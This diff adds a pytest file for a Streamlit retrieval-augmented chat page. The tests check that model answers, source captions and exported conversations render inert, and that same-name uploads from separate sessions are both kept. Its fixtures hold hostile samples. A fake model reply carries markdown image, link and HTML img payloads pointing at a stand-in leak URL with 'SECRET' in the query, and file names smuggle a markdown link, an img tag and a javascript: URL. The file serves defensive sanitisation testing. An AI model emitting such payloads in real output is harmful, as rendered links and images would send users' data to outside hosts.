@@ -1,0 +1,112 @@
+"""The page in-process (Streamlit's AppTest) with the fake models: what it draws is inert, and
+uploads from different sessions never overwrite each other."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from streamlit.testing.v1 import AppTest
+
+import rag.engine
+from ingest import Ingestor
+from rag.answer import Answer, SourceRef
+from rag.settings import load_settings
+from tests.conftest import ROOT, FakeLLM
+from tests.test_safe_markdown import live_parts, visible_text
+from ui.transcript import conversation_markdown
+
+APP = str(ROOT / "ui" / "app.py")
+LEAK = "http://127.0.0.1:9/leak"
+HOSTILE = (
+    f"Leave is 25 days [1]. ![x]({LEAK}/img?q=SECRET) [more]({LEAK}/link) <{LEAK}/auto> "
+    f'{LEAK}/bare <img src="{LEAK}/html">'
+)
+
+
+def unescape(markdown: str) -> str:
+    return re.sub(r"\\(.)", r"\1", markdown)
+
+
+@pytest.fixture
+def page_home(rag_home, monkeypatch, fake_embedder, tmp_path):
+    """A library of one document, and the page wired to the fake models."""
+    monkeypatch.setenv("RAG_REFUSE_BELOW", "-1")
+    monkeypatch.setenv("RAG_REFUSE_UNLESS_SIMILAR", "-1")
+    llm = FakeLLM(reply=HOSTILE)
+    real = rag.engine.build_engine
+    monkeypatch.setattr(
+        rag.engine, "build_engine", lambda s: real(s, embedder=fake_embedder, llm=llm)
+    )
+    doc = tmp_path / "docs" / "[x](http:evil) leave.md"
+    doc.parent.mkdir()
+    doc.write_text("# Leave <b>policy</b>\n\nEmployees get 25 days of paid annual leave.\n")
+    Ingestor(load_settings(), embedder=fake_embedder).ingest([doc.parent])
+    return rag_home
+
+
+def page() -> AppTest:
+    app = AppTest.from_file(APP, default_timeout=60)
+    app.run()
+    assert not app.exception, app.exception
+    return app
+
+
+def test_answers_and_history_are_drawn_inert(page_home):
+    app = page()
+    app.chat_input[0].set_value("How many days of leave?").run()
+    app.chat_input[0].set_value("And how many days of leave next year?").run()
+    assert not app.exception, app.exception
+    drawn = [md.value for message in app.chat_message for md in message.markdown]
+    drawn += [c.value for c in app.caption]
+    assert drawn and all(live_parts(md) == [] for md in drawn), drawn
+    answers = [visible_text(md.value) for m in app.chat_message for md in m.markdown]
+    assert sum(f"{LEAK}/img?q=SECRET" in a for a in answers) == 2  # shown as text, twice
+    assert any("[1] [x](http:evil) leave.md" in unescape(md) for md in drawn)
+    assert any("Leave <b>policy</b>" in unescape(c.value) for c in app.caption)
+
+
+def test_uploads_from_two_sessions_with_one_name_both_stay(page_home):
+    first, second, third = page(), page(), page()
+    first.file_uploader[0].upload("notes.md", b"# Alpha\n\nVisitors sign in at lobby C7.\n").run()
+    second.file_uploader[0].upload("notes.md", b"# Beta\n\nParking is in garage B2.\n").run()
+    third.file_uploader[0].upload("copy.md", b"# Alpha\n\nVisitors sign in at lobby C7.\n").run()
+    for app in (first, second, third):
+        assert not app.exception, app.exception
+    stored = sorted((p.name, p.read_bytes()) for p in (page_home / "uploads").rglob("*.md"))
+    assert stored == [
+        ("notes.md", b"# Alpha\n\nVisitors sign in at lobby C7.\n"),
+        ("notes.md", b"# Beta\n\nParking is in garage B2.\n"),
+    ]
+    documents = {m.label: m.value for m in page().metric}["Documents"]
+    assert documents == "3"  # the first upload's chunks are still there
+    notes = [unescape(c.value) for app in (second, third) for c in app.caption]
+    assert any("notes.md stored as uploads/default/" in n and "earlier upload" in n for n in notes)
+    assert any("copy.md is already in the library (as notes.md)" in n for n in notes)
+
+
+def test_the_uploader_states_the_limit(page_home, monkeypatch):
+    monkeypatch.setenv("RAG_MAX_FILE_MB", "12.5")
+    uploader = page().file_uploader[0]
+    assert "up to 13 MB per file" in uploader.label
+    assert uploader.proto.max_upload_size_mb == 13
+
+
+def test_the_exported_conversation_loads_nothing():
+    source = SourceRef(
+        file="/docs/<img src=x> [a](javascript:x) www.e.io.md", page=2, score=0.5, text="t"
+    )
+    answer = Answer(text=HOSTILE, sources=[source], refused=False, cited=[1])
+    history = [
+        {"role": "user", "content": f"What about ![q]({LEAK}/question)?"},
+        {"role": "assistant", "content": HOSTILE, "answer": answer},
+    ]
+    exported = conversation_markdown(history, "default")
+    assert live_parts(exported) == []
+    shown = visible_text(exported)
+    for text in [
+        f"{LEAK}/img?q=SECRET",
+        f"{LEAK}/question",
+        "[1] <img src=x> [a](javascript:x) www.e.io.md",
+    ]:
+        assert text in shown
